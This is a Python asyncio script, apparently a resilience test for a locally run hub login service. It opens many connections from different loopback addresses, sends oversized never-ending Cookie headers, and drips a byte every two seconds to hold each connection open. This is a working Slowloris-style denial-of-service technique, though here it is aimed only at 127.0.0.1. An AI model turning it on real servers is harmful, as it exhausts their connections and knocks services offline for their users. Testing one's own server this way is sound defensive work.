"""Opens many slow connections with big headers that never end, each from another address of loopback; holds them until its input ends."""

import asyncio
import resource
import sys

COUNT, SIZE = int(sys.argv[1]), int(sys.argv[2])


async def dribble(number: int, opened: list[int]) -> None:
    source = (f"127.{1 + number // 60000}.{number // 200 % 250 + 1}.{number % 200 + 1}", 0)
    try:
        _, writer = await asyncio.open_connection("127.0.0.1", 80, local_addr=source)
        writer.write(b"GET /hub/login HTTP/1.1\r\nHost: hub\r\nCookie: " + b"x" * SIZE)
        await writer.drain()
        opened[0] += 1
        while True:  # a byte now and then
            await asyncio.sleep(2)
            writer.write(b"x")
            await writer.drain()
    except OSError:
        return


async def main() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (COUNT + 1000, COUNT + 1000))
    opened = [0]
    tasks = []
    for number in range(COUNT):
        tasks.append(asyncio.create_task(dribble(number, opened)))
        if number % 100 == 99:
            await asyncio.sleep(0)
    while opened[0] < COUNT and any(not task.done() for task in tasks) and len(tasks) - sum(task.done() for task in tasks) > opened[0]:
        await asyncio.sleep(0.1)
    print("sent", opened[0], flush=True)
    await asyncio.to_thread(sys.stdin.read)
    print("still open", sum(not task.done() for task in tasks), flush=True)


asyncio.run(main())
